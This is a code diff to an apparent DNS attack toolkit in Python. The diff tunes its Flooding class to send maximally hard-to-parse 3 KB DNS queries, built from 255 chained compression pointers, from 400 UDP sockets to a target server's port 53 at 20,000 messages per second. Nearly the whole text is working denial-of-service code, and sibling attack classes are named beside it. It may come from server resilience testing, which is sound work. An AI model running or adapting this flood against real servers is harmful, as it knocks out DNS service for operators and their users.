@@ -116,30 +116,36 @@ class Holding(Attack):
 
 
 class Flooding(Attack):
-    """Messages of 3 KB that are as hard to read as can be."""
+    """Messages of 3 KB that are as hard to read as can be, on many sockets, since
+    what waits in the queue counts against each one's buffer."""
+    SOCKETS, RATE = 400, 20000
 
-    def messages(self):
-        long = b"\1x" * 119 + b"\xc0\x0c"
+    def message(self):
+        long = b"\1x" * 117 + b"\xc0\x0c"
         fixed = struct.pack("!HHIH", 1, 1, 0, 0)
         at = struct.pack("!H", 0xc000 | len(query(MESH)))
-        return (query(MESH, long + fixed + (at + fixed) * 255, 256),
-                query(MESH, b"\0" + struct.pack("!HHIH", 41, 4096, 0, 3000)
-                      + b"\0\x0c\0\0" * 750, 1),
-                query(MESH, (b"\0" + fixed) * 250, 250))
+        return query(MESH, long + fixed + (at + fixed) * 255, 256)
 
     def run(self):
-        socks = [socket.socket(socket.AF_INET, socket.SOCK_DGRAM) for _ in range(8)]
+        socks = [socket.socket(socket.AF_INET, socket.SOCK_DGRAM) for _ in range(self.SOCKETS)]
         for sock in socks:
             sock.connect((self.server, 53))
             sock.setblocking(False)
-        messages = self.messages()
+        message, begun = self.message(), time.monotonic()
         while self.goes_on():
-            for n, sock in enumerate(socks):
-                with contextlib.suppress(OSError):
-                    while self.goes_on():
-                        sock.send(messages[n % len(messages)])
-                        self.count += 1
-            time.sleep(0)
+            due = self.RATE * (time.monotonic() - begun)
+            while self.count < due and self.goes_on():
+                sent = self.count
+                for sock in socks:
+                    with contextlib.suppress(OSError):
+                        for _ in range(10):
+                            sock.send(message)
+                            self.count += 1
+                    if self.count >= due:
+                        break
+                if self.count == sent:
+                    break			# no socket has room
+            time.sleep(0.001)
 
 
 class Poisoning(Attack):
